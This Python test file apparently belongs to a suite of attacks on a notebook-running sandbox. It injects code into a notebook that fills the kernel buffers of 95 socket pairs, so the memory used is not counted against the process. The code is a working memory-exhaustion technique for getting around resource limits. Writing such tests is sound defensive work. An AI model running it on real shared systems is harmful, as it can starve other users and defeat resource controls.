"""Large buffers are asked for, for many sockets, and filled: kernel memory that is no process's.

The buffers stay small, so that each pair takes a tenth of what is asked for.

graded: 30
note: MB in 95 pairs
"""

from __future__ import annotations

from pathlib import Path

from nbformat import NotebookNode

from tests.attacks.tools import insert, save

SOURCE = """
import socket
import time


def available():
    with open("/proc/meminfo") as file:
        return next(int(line.split()[1]) // 1024 for line in file if line.startswith("MemAvail"))


before, kept, start = available(), [], time.time()
block = bytes(100_000)
while len(kept) < PAIRS:
    pair = socket.socketpair()
    kept.append(pair)
    for end in pair:
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4_000_000)
        end.setblocking(False)
        try:
            while True:
                end.send(block)
        except BlockingIOError:
            pass
resident = int(open("/proc/self/statm").read().split()[1]) * 4096 // 1_000_000
print(before - available(), "MB in", len(kept), "pairs,", resident, "MB resident,")
print(time.time() - start, "s")
time.sleep(2)
"""


def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
    insert(right, SOURCE.replace("PAIRS", "95"), before="zero_pad")
    save(folder, right)
